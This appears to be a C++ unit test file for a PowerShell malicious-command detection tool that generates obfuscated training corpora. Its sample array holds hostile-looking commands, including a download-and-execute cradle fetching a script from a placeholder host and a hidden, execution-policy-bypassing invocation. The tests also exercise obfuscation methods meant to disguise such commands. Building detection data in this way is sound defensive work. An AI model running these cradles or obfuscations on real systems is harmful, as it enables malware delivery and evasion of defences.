#include <regex>
#include <set>
#include <sstream>

#include "doctest.h"
#include "pshield/corpus.hpp"
#include "pshield/normalizer.hpp"
#include "pshield/text.hpp"

using namespace pshield;

namespace {

const char* const kSamples[] = {
    "iex $env:x",
    "IEX (New-Object Net.WebClient).DownloadString('http://a1b2.com/x.ps1')",
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command \"IEX 'abc'\"",
    "$cs = [char]71; $fn = $env:temp+$cs;",
    "Get-Date",
    "Invoke-Expression ($emnuxgy+$unogv+$jrywuzq+'')",
    "$filename.Replace('-','/')",
    "(new-object -ComObject wscript.shell).Popup('hello')",
};

}  // namespace

TEST_CASE("obfuscation examples") {
  Rng rng(1);
  const auto renamed = apply_obfuscation(11, "iex $env:x", rng);
  REQUIRE(renamed);
  CHECK(std::regex_match(*renamed, std::regex(R"(iex \$env:[a-z]{4,8})")));

  const auto cased = apply_obfuscation(1, kSamples[1], rng);
  REQUIRE(cased);
  CHECK(case_key(normalize(RawCommand{*cased, ""})) == case_key(normalize(RawCommand{kSamples[1], ""})));

  CHECK_FALSE(apply_obfuscation(2, "Get-Date", rng));
  CHECK_FALSE(apply_obfuscation(5, "Get-Date", rng));
  CHECK_FALSE(apply_obfuscation(11, "Get-Date", rng));
  CHECK_FALSE(apply_obfuscation(1, "", rng));
  CHECK_THROWS(apply_obfuscation(0, "x", rng));
  CHECK_THROWS(apply_obfuscation(12, "x", rng));

  const auto flags = apply_obfuscation(2, kSamples[2], rng);
  REQUIRE(flags);
  CHECK(flags->size() < std::string(kSamples[2]).size());
  CHECK(text::ascii_lower(*flags).find("-noprofile") == std::string::npos);

  const auto chars = apply_obfuscation(5, "Write-Host 'G'", rng);
  REQUIRE(chars);
  CHECK(chars->find("[char]71") != std::string::npos);

  const auto concat = apply_obfuscation(10, "Invoke-Expression 'iex'", rng);
  REQUIRE(concat);
  CHECK(std::regex_search(*concat, std::regex(R"(\$[a-z]{5,7}=')")));
}

TEST_CASE("encoded command round trip") {
  Rng rng(2);
  for (int i = 0; i < 300; ++i) {
    std::string payload;
    const std::size_t len = 1 + rng.below(120);
    for (std::size_t k = 0; k < len; ++k) payload.push_back(static_cast<char>(0x20 + rng.below(95)));
    const auto wrapped = apply_obfuscation(3, payload, rng);
    REQUIRE(wrapped);
    const auto decoded = decode_encoded_command(RawCommand{*wrapped, ""});
    REQUIRE(decoded.payloads.size() == 1);
    CHECK(decoded.payloads[0] == payload);
    CHECK(decoded.was_base64_decoded);
  }
}

TEST_CASE("obfuscations keep one well-formed line") {
  Rng rng(3);
  const auto& bank = TemplateBank::builtin();
  std::vector<std::string> inputs(std::begin(kSamples), std::end(kSamples));
  inputs.insert(inputs.end(), bank.malicious.begin(), bank.malicious.end());
  inputs.insert(inputs.end(), bank.benign.begin(), bank.benign.end());
  for (const auto& in : inputs) {
    for (int m = 1; m <= kObfuscationMethods; ++m) {
      for (int rep = 0; rep < 5; ++rep) {
        // Stack a second method on top to exercise composition.
        auto out = apply_obfuscation(m, in, rng);
        if (!out) continue;
        if (auto twice = apply_obfuscation(1 + static_cast<int>(rng.below(11)), *out, rng)) out = twice;
        CHECK(out->find('\n') == std::string::npos);
        CHECK(out->find('\r') == std::string::npos);
        CHECK_NOTHROW(preprocess(RawCommand{*out, ""}));
      }
    }
  }
}

TEST_CASE("generate_corpus") {
  GenerateParams p;
  p.seed = 7;
  p.n_clean = 300;
  p.n_malicious = 100;
  const auto a = generate_corpus(p);
  const auto b = generate_corpus(p);
  CHECK(to_jsonl(a.commands) == to_jsonl(b.commands));
  CHECK(a.manifest.to_json() == b.manifest.to_json());
  std::size_t mal = 0;
  for (const auto& c : a.commands) {
    mal += c.malicious;
    CHECK(c.origin == Origin::generated);
    if (c.malicious) {
      CHECK(!c.obfuscations.empty());
      CHECK(c.obfuscations.size() <= 4);
      // Encoding, when present, is the outermost layer.
      const auto three = std::find(c.obfuscations.begin(), c.obfuscations.end(), 3);
      if (three != c.obfuscations.end()) CHECK(three + 1 == c.obfuscations.end());
    } else {
      CHECK(c.obfuscations.empty());
    }
    CHECK(c.command.find('\n') == std::string::npos);
  }
  CHECK(mal == 100);
  CHECK(a.commands.size() == 400);

  p.seed = 8;
  CHECK(to_jsonl(generate_corpus(p).commands) != to_jsonl(a.commands));

  // Regeneration from the manifest is byte-identical.
  const auto m = CorpusManifest::from_json(a.manifest.to_json());
  CHECK(m.params == a.manifest.params);
  CHECK(to_jsonl(generate_corpus(m.params).commands) == to_jsonl(a.commands));
  CHECK(m.corpus_hash == a.manifest.corpus_hash);

  GenerateParams none;
  CHECK(generate_corpus(none).commands.empty());
  none.n_clean = 20;
  for (const auto& c : generate_corpus(none).commands) CHECK_FALSE(c.malicious);

  GenerateParams bad;
  bad.min_obfuscations = 3;
  bad.max_obfuscations = 2;
  CHECK_THROWS(generate_corpus(bad));
}

TEST_CASE("generated malicious commands are diverse") {
  GenerateParams p;
  p.seed = 11;
  p.n_malicious = 500;
  const auto corpus = generate_corpus(p);
  std::vector<NormalizedCommand> norm;
  for (const auto& c : corpus.commands) norm.push_back(preprocess(RawCommand{c.command, ""}));
  CHECK(static_cast<double>(dedup_corpus(norm).size()) >= 0.95 * 500);
}

TEST_CASE("single obfuscation restricts the mix") {
  GenerateParams p;
  p.seed = 5;
  p.n_malicious = 50;
  p.obfuscation_mix.fill(0.0);
  p.obfuscation_mix[0] = 1.0;
  for (const auto& c : generate_corpus(p).commands) CHECK(c.obfuscations == std::vector<int>{1});
}

TEST_CASE("template bank parsing") {
  const auto& bank = TemplateBank::builtin("v1");
  CHECK(bank.benign.size() >= 40);
  CHECK(bank.malicious.size() >= 20);
  CHECK_THROWS(TemplateBank::builtin("v0"));
  CHECK_THROWS(TemplateBank::parse("t", "a {nothing}", "b", "@tld = x\n@word = y\n@path = p\n@payloadext = e\n@user = u"));
  CHECK_NOTHROW(TemplateBank::parse("t", "a {num}", "b {url}", "@tld = x\n@word = y\n@path = p\n@payloadext = e\n@user = u"));
  CHECK_THROWS(TemplateBank::parse("t", "", "b", "@tld = x"));
}

TEST_CASE("jsonl") {
  const std::vector<LabeledCommand> corpus{
      {"Get-Date", false, Origin::generated, {}},
      {"iex $env:abc \"quoted\" \\ tab\t", true, Origin::generated, {1, 11}},
      {"caf\xC3\xA9 \xE2\x80\x93", false, Origin::ingested, {}},
  };
  const std::string text = to_jsonl(corpus);
  CHECK(text.substr(0, text.find('\n')) ==
        R"({"command":"Get-Date","label":"clean","origin":"generated","obf":[]})");
  std::istringstream in(text);
  CHECK(parse_jsonl(in) == corpus);

  std::istringstream empty("");
  CHECK(parse_jsonl(empty).empty());

  std::istringstream bad_label(to_jsonl(std::span(corpus).first(1)) +
                               R"({"command":"x","label":"bad","origin":"generated","obf":[]})" "\n");
  try {
    parse_jsonl(bad_label);
    FAIL("expected an error");
  } catch (const CorpusError& e) {
    CHECK(std::string(e.what()).rfind("line 2:", 0) == 0);
  }
  std::istringstream malformed("{\"command\": \n");
  CHECK_THROWS_AS(parse_jsonl(malformed), CorpusError);
  std::istringstream bad_obf(R"({"command":"x","label":"clean","origin":"generated","obf":[12]})");
  CHECK_THROWS_AS(parse_jsonl(bad_obf), CorpusError);
}

TEST_CASE("ingest and balance") {
  std::istringstream in("Get-Date\r\n\n  \nGet-Process\n");
  const auto got = ingest_lines(in, true);
  REQUIRE(got.size() == 2);
  CHECK(got[0].command == "Get-Date");
  CHECK(got[1].origin == Origin::ingested);
  CHECK(got[1].malicious);

  std::vector<LabeledCommand> corpus;
  for (int i = 0; i < 3; ++i) corpus.push_back({"m" + std::to_string(i), true, Origin::generated, {1}});
  for (int i = 0; i < 24; ++i) corpus.push_back({"c" + std::to_string(i), false, Origin::generated, {}});
  const auto balanced = balance_training_set(corpus, 8);
  std::size_t mal = 0;
  for (const auto& c : balanced) mal += c.malicious;
  CHECK(mal == 24);
  CHECK(balanced.size() - mal == 24);
  CHECK(std::equal(corpus.begin(), corpus.end(), balanced.begin()));
  CHECK(balance_training_set(corpus, 1) == corpus);
  const std::vector<LabeledCommand> clean_only(corpus.begin() + 3, corpus.end());
  CHECK(balance_training_set(clean_only, 8) == clean_only);
}
